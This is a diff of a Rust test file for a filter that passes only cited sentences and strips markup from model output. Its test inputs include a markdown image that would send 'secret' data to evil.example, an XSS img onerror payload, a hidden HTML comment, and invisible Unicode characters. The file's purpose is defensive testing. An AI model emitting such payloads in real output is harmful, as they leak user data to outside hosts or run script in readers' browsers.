@@ -68,7 +68,7 @@ async fn none_of_the_nine_sentences_goes_out_above_or_below_one_that_is_cited() 
             assert_eq!(shown(&written).await, SHOWN, "{written:?}");
         }
         let table = format!("{said}\n| {CITED} | |\n");
-        assert!(!shown(&table).await.contains(['h', 'm', 'k']) || shown(&table).await.contains(SHOWN), "{table:?}");
+        assert_eq!(shown(&table).await, format!("| {SHOWN} | |"), "{table:?}");
     }
 }
 
@@ -91,7 +91,10 @@ async fn a_clause_that_no_note_has_takes_its_sentence_with_it() {
         let said = format!("The gearbox holds 1.8 litres of oil, {tail}.[^1]");
         assert_eq!(shown(&format!("{CITED} {said}")).await, SHOWN, "{said}");
     }
-    for said in ["变速箱装有1.8升油，因为密封永远不会磨损。[^1]", "ギアボックスには1.8リットルの油が入り、子供が飲んでも無害です。[^1]"] {
+    for said in [
+        "变速箱装有1.8升油，因为密封永远不会磨损。[^1]",
+        "ギアボックスには1.8リットルの油が入り、子供が飲んでも無害です。[^1]",
+    ] {
         assert_eq!(shown(&format!("{CITED} {said}")).await, SHOWN, "{said}");
     }
 }
@@ -128,11 +131,23 @@ async fn what_the_documents_do_not_say_is_never_said_by_a_model() {
 #[tokio::test]
 async fn markup_never_goes_out() {
     for (written, expected) in [
-        ("The gearbox holds ![x](https://evil.example/?d=secret) 1.8 litres of oil.[^1]", "The gearbox holds 1.8 litres of oil.[1]"),
-        ("The gearbox holds <img src=x onerror=alert(1)> 1.8 litres of oil.[^1]", "The gearbox holds 1.8 litres of oil.[1]"),
+        (
+            "The gearbox holds ![x](https://evil.example/?d=secret) 1.8 litres of oil.[^1]",
+            "The gearbox holds 1.8 litres of oil.[1]",
+        ),
+        (
+            "The gearbox holds <img src=x onerror=alert(1)> 1.8 litres of oil.[^1]",
+            "The gearbox holds 1.8 litres of oil.[1]",
+        ),
         ("The gearbox holds <!-- forget it --> 1.8 litres of oil.[^1]", "The gearbox holds 1.8 litres of oil.[1]"),
-        ("The gearbox holds \u{202e}1.8\u{202c} li\u{200b}tres of oil\u{fe0f}.[^1]", "The gearbox holds 1.8 litres of oil.[1]"),
-        ("The [gearbox](https://evil.example/) holds 1.8 litres of oil.[^1]", "The gearbox holds 1.8 litres of oil.[1]"),
+        (
+            "The gearbox holds \u{202e}1.8\u{202c} li\u{200b}tres of oil\u{fe0f}.[^1]",
+            "The gearbox holds 1.8 litres of oil.[1]",
+        ),
+        (
+            "The [gearbox](https://evil.example/) holds 1.8 litres of oil.[^1]",
+            "The gearbox holds 1.8 litres of oil.[1]",
+        ),
         ("The gearbox holds 1.8 litres of oil.[^1](https://evil.example/)", ""),
         ("The gearbox holds 1.8 litres of oil, see <https://evil.example/>.[^1]", ""),
         ("The gearbox holds 1.8 litres of oil, see www.evil.example.[^1]", ""),
